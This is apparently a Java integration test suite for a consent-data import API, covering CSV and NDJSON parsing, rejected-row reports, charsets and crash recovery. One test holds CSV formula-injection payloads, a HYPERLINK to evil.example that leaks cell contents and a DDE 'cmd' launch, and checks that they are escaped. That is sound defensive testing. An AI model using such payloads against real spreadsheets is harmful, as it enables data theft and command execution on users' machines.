package io.izinhub.consent.imports;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import io.izinhub.access.Accounts;
import io.izinhub.consent.domain.Address;
import io.izinhub.consent.domain.Channel;
import io.izinhub.consent.ledger.ContactPoints;
import io.izinhub.platform.spool.SpoolFolder;
import io.izinhub.testing.HubTest;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.http.HttpResponse;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.attribute.FileTime;
import java.sql.Timestamp;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.UUID;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

@HubTest
class ImportApiTest {

    private static final String CSV = "text/csv";
    private static final String NDJSON = "application/x-ndjson";
    private static final String HEADER = "brand,channel,recipient,status,source,consentAt\n";

    private final ImportApi api;
    private final ImportFiles files;
    private final SpoolFolder spool;
    private final ContactPoints contacts;
    private final JdbcTemplate jdbc;

    @Autowired
    ImportApiTest(
            ImportFiles files,
            SpoolFolder spool,
            ContactPoints contacts,
            JdbcTemplate jdbc,
            Accounts accounts,
            @LocalServerPort int port) {
        this.api = new ImportApi(port, accounts);
        this.files = files;
        this.spool = spool;
        this.contacts = contacts;
        this.jdbc = jdbc;
    }

    @Test
    void theSameFileTwiceChangesNothing() {
        byte[] file = utf8(HEADER + row("twice1@import.example", "ONAY") + row("twice2@import.example", "RET"));

        JsonNode first = api.run(CSV, "", file);
        JsonNode second = api.run(CSV, "", file);

        assertThat(first.get("counts").toString()).isEqualTo("{\"APPLIED\":2}");
        assertThat(second.get("counts").toString()).isEqualTo("{\"DUPLICATE\":2}");
        assertThat(first.get("state").asText()).isEqualTo("DONE");
    }

    @Test
    void oneBadRowInTenThousandIsReportedAndTheOthersAreLoaded() {
        String body = IntStream.range(0, 10_000)
                .mapToObj(i -> i == 5_000
                        ? "600100,EPOSTA,\"broken@import.example,ONAY,HS_WEB,2026-01-02 03:04:05\n"
                        : row("many" + i + "@import.example", "ONAY"))
                .collect(Collectors.joining());

        JsonNode status = api.run(CSV, "", utf8(HEADER + body));

        assertThat(status.get("counts").toString()).isEqualTo("{\"APPLIED\":9999,\"REJECTED:BAD_QUOTES\":1}");
        assertThat(status.get("rejected").asInt()).isEqualTo(1);
        assertThat(status.get("lines").asInt()).isEqualTo(10_001);
        assertThat(api.rejected(status.get("importId").asText()).lines().skip(1))
                .singleElement()
                .asString()
                .startsWith("600100,EPOSTA,\"broken@import.example,ONAY,HS_WEB,2026-01-02 03:04:05,BAD_QUOTES,");
    }

    @Test
    void aCheckTellsTheSameAndWritesNothing() {
        byte[] file = utf8(HEADER + row("check@import.example", "ONAY") + row("no address", "ONAY"));

        JsonNode status = api.run(CSV, "?mode=check", file);

        assertThat(status.get("counts").toString()).isEqualTo("{\"REJECTED:INVALID_ADDRESS\":1,\"VALID\":1}");
        assertThat(contacts.find(Address.require(Channel.EPOSTA, "check@import.example")))
                .isEmpty();
    }

    @Test
    void rejectedRowsCanBeCorrectedAndLoadedAgain() {
        byte[] file = utf8("brand;channel;recipient;status;source;consentAt\r\n"
                + "600100;MESAJ;5,32123E+09;ONAY;HS_WEB;2026-01-02 03:04:05\r\n"
                + "600100;MESAJ;05329998877;ONAY;HS_WEB;02.01.2026\r\n"
                + "600100;MESAJ;05329998876\r\n"
                + "600100;MESAJ;05329998875;ONAY;HS_WEB;2026-01-02 03:04:05\r\n");
        String rejected = api.rejected(api.run(CSV, "", file).get("importId").asText());

        assertThat(rejected.lines().map(line -> line.replaceAll("[^;]*;?$", "")))
                .containsExactly(
                        "brand;channel;recipient;status;source;consentAt;code;",
                        "600100;MESAJ;5,32123E+09;ONAY;HS_WEB;2026-01-02 03:04:05;EXCEL_NUMBER;",
                        "600100;MESAJ;05329998877;ONAY;HS_WEB;02.01.2026;INVALID_TIME;",
                        "600100;MESAJ;05329998876;;;;MISSING_FIELD;");
        String mended = rejected.replace("5,32123E+09", "05321230000")
                .replace("02.01.2026", "2026-01-02T03:04:05")
                .replace("05329998876;;;", "05329998876;RET;HS_WEB;2026-01-02 03:04:05");
        assertThat(api.run(CSV, "", utf8(mended)).get("counts").toString()).isEqualTo("{\"APPLIED\":3}");
    }

    @Test
    void cellsOfAStrangerAreNoFormulasInTheRejectedRows_andLoadedAgainAsTheyWere() {
        String attack = "=HYPERLINK(\"\"http://evil.example/\"\"&A1)";
        byte[] file = utf8("brand,channel,recipient,status,source,consentAt,evidence.name,idempotencyKey\n"
                + "600100,MESAJ,+905329998866,ONAY,HS_WEB,yesterday,\"" + attack + "\",@formula-1\n"
                + "600100,MESAJ,+905329998867,ONAY,HS_WEB,yesterday,plain,-formula-2\n"
                + "600100,MESAJ,\"+905329998868,ONAY,HS_WEB,=cmd|' /C calc'!A0\n");
        JsonNode first = api.run(CSV, "", file);

        String rejected = api.rejected(first.get("importId").asText());

        assertThat(rejected.lines().skip(1))
                .satisfiesExactly(
                        line -> assertThat(line)
                                .startsWith("600100,MESAJ,+905329998866,ONAY,HS_WEB,yesterday,\"'" + attack
                                        + "\",'@formula-1,INVALID_TIME,"),
                        line -> assertThat(line)
                                .startsWith("600100,MESAJ,+905329998867,ONAY,HS_WEB,yesterday,plain,'-formula-2,"),
                        line -> assertThat(line)
                                .startsWith("\"600100,MESAJ,\"\"+905329998868,")
                                .contains(",BAD_QUOTES,"));
        String mended =
                rejected.lines().limit(3).collect(Collectors.joining("\n")).replace("yesterday", "2026-01-02 03:04:05");
        assertThat(api.run(CSV, "", utf8(mended)).get("counts").toString()).isEqualTo("{\"APPLIED\":2}");
        String asSent = mended.replace("'=", "=").replace("'@", "@").replace("'-", "-");
        assertThat(api.run(CSV, "", utf8(asSent)).get("counts").toString()).isEqualTo("{\"DUPLICATE\":2}");
    }

    @Test
    void aTimeThatIsNoneIsExplainedInTheWordsOfTheFormat() {
        String csv = api.rejected(api.run(
                        CSV,
                        "",
                        utf8(HEADER + row("when@import.example", "ONAY").replace("2026-01-02", "02.01.26")))
                .get("importId")
                .asText());
        String json = api.rejected(api.run(
                        NDJSON,
                        "",
                        utf8(
                                "{\"brand\":\"600100\",\"channel\":\"EPOSTA\",\"recipient\":\"when@import.example\",\"status\":\"ONAY\","
                                        + "\"source\":\"HS_WEB\",\"consentAt\":\"2026-01-02 03:04:05\"}\n"))
                .get("importId")
                .asText());

        assertThat(csv).contains("INVALID_TIME", "İstanbul saatidir");
        assertThat(json).contains("INVALID_TIME", "saat farkıyla birlikte").doesNotContain("İstanbul saatidir");
    }

    @ParameterizedTest
    @ValueSource(strings = {"windows-1254", "ISO-8859-9", "UTF-8"})
    void otherCharsetsAndTabsAreRead(String charset) {
        String who = charset.toLowerCase(java.util.Locale.ROOT) + "@charset.example";
        String file = "brand\tchannel\trecipient\tstatus\tsource\tconsentAt\tevidence.name\n600100\tEPOSTA\t" + who
                + "\tRET\tHS_WEB\t2026-01-02 03:04:05\tŞule Ilıcalı\n";

        JsonNode status = api.run(CSV + ";charset=" + charset, "", file.getBytes(Charset.forName(charset)));

        assertThat(status.get("counts").toString()).isEqualTo("{\"APPLIED\":1}");
    }

    @Test
    void aWrongCharsetIsNamedAndABomIsNot() {
        byte[] file = (HEADER + "600100,EPOSTA,ayşe@import.example,ONAY,HS_WEB,2026-01-02 03:04:05\n")
                .getBytes(Charset.forName("windows-1254"));

        assertThat(api.run(CSV, "", file).get("counts").toString()).isEqualTo("{\"REJECTED:BAD_ENCODING\":1}");
        assertThat(api.run(CSV, "", utf8("\uFEFF" + HEADER + row("bom@import.example", "RET")))
                        .get("counts")
                        .toString())
                .isEqualTo("{\"APPLIED\":1}");
    }

    @Test
    void localTimesOfCsvAreIstanbul() {
        api.run(CSV, "", utf8(HEADER + row("time@import.example", "RET")));

        assertThat(consentTimes("time@import.example")).containsExactly(Instant.parse("2026-01-02T00:04:05Z"));
    }

    @Test
    void r28_aRowWithoutReferenceNeverLiftsARefusal() {
        String ret = "600100,EPOSTA,weak@import.example,RET,HS_WEB,2026-01-02 03:04:05,\n";
        String onay = "600100,EPOSTA,weak@import.example,ONAY,HS_WEB,2026-02-02 03:04:05,%s\n";
        String header = HEADER.strip() + ",evidence.documentRef\n";

        api.run(CSV, "", utf8(header + ret + onay.formatted("")));
        assertThat(hasColumn("weak@import.example", "weak_at")).isTrue();
        assertThat(hasColumn("weak@import.example", "onay_at")).isFalse();

        api.run(CSV, "", utf8(header + onay.formatted("F-17").replace("02-02", "02-03")));
        assertThat(hasColumn("weak@import.example", "onay_at")).isTrue();
    }

    @Test
    void linesOfJsonAreReadAndRejectedInTheirForm() {
        String line = "{\"brand\":\"600100\",\"channel\":\"EPOSTA\",\"recipient\":\"%s\",\"status\":\"ONAY\","
                + "\"source\":\"HS_WEB\",\"consentAt\":\"2026-01-02T03:04:05+03:00\"}\n";

        JsonNode status = api.run(
                NDJSON, "", utf8(line.formatted("json@import.example") + "{\"brand\":\n\n" + line.formatted("x")));

        assertThat(status.get("counts").toString())
                .isEqualTo("{\"APPLIED\":1,\"REJECTED:BAD_JSON\":1,\"REJECTED:INVALID_ADDRESS\":1}");
        String rejected = api.rejected(status.get("importId").asText());
        assertThat(ImportApi.json(rejected.lines().toList().get(0)).get("line").asText())
                .isEqualTo("{\"brand\":");
        String mended = rejected.lines().toList().get(1).replace("\"x\"", "\"mended@import.example\"");
        assertThat(api.run(NDJSON, "", utf8(mended)).get("counts").toString()).isEqualTo("{\"APPLIED\":1}");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "?mode=maybe | brand                                                   | 400 | MODE_UNKNOWN",
                "            | brand,chanel,recipient,status,source,consentAt          | 422 | UNKNOWN_COLUMN",
                "            | brand,channel,status,source,consentAt                   | 422 | MISSING_COLUMN",
                "            | brand,brand,channel,recipient,status,source,consentAt   | 422 | COLUMN_TWICE",
                "            | ''                                                      | 422 | MISSING_COLUMN"
            })
    void aFileThatCannotBeWorkedIsRefusedAtOnce(String query, String body, int status, String code) {
        HttpResponse<String> answer = api.post(CSV, query == null ? "" : query, utf8(body));

        assertThat(answer.statusCode()).isEqualTo(status);
        assertThat(ImportApi.json(answer.body()).get("code").asText()).isEqualTo(code);
    }

    @Test
    void afterACrashTheImportGoesOnBehindTheLastChunk() throws IOException {
        UUID id = UUID.randomUUID();
        String rows = IntStream.range(0, 5)
                .mapToObj(i -> row("crash" + i + "@import.example", "RET"))
                .collect(Collectors.joining());
        files.store(id, new ByteArrayInputStream(utf8(HEADER + rows)));
        Timestamp past = Timestamp.from(Instant.now().minusSeconds(1));
        jdbc.update(
                "insert into import_job (import_id, created_at, created_by, mode, format, charset, state, lines,"
                        + " done_rows, counts, lease_until) values (?, ?, 'test', 'execute', 'CSV', 'UTF-8', 'RUNNING',"
                        + " 6, 3, '{\"APPLIED\":3}', ?)",
                id,
                past,
                past);

        assertThat(api.finished(id.toString()).get("counts").toString()).isEqualTo("{\"APPLIED\":5}");
        assertThat(consentTimes("crash2@import.example")).isEmpty();
        assertThat(consentTimes("crash3@import.example")).hasSize(1);
        assertThat(files.here()).doesNotContain(id);
    }

    /** What people sent does not lie about for ever because a process died at the wrong moment. */
    @Test
    void theFilesOfADeadProcessAreDeleted_andOneThatIsBeingReceivedIsNot() throws IOException {
        UUID received = UUID.randomUUID();
        UUID halfReceived = UUID.randomUUID();
        files.store(received, new ByteArrayInputStream(utf8(HEADER)));
        files.store(halfReceived, new ByteArrayInputStream(utf8(HEADER)));
        Files.setLastModifiedTime(
                spool.path().resolve(halfReceived + ".import"),
                FileTime.from(Instant.now().minus(Duration.ofHours(2))));

        await().untilAsserted(() ->
                assertThat(files.here()).doesNotContain(halfReceived).contains(received));

        files.delete(received);
    }

    @Test
    void rejectedRowsAreNotReadableInTheDatabase() {
        JsonNode status = api.run(CSV, "", utf8(HEADER + row("secret-address", "ONAY")));

        byte[] content = jdbc.queryForObject(
                "select content from import_reject where import_id = ?::uuid",
                byte[].class,
                status.get("importId").asText());

        assertThat(new String(content, StandardCharsets.ISO_8859_1)).doesNotContain("secret-address");
    }

    private static String row(String who, String status) {
        return "600100,EPOSTA," + who + "," + status + ",HS_WEB,2026-01-02 03:04:05\n";
    }

    private List<Instant> consentTimes(String email) {
        return contacts.find(Address.require(Channel.EPOSTA, email))
                .map(point -> jdbc.query(
                        "select consent_at from consent_event where point_id = ?",
                        (rs, i) -> rs.getTimestamp(1).toInstant(),
                        point))
                .orElse(List.of());
    }

    private boolean hasColumn(String email, String column) {
        UUID point = contacts.find(Address.require(Channel.EPOSTA, email)).orElseThrow();
        return Boolean.TRUE.equals(jdbc.queryForObject(
                "select " + column + " is not null from consent where point_id = ?", Boolean.class, point));
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
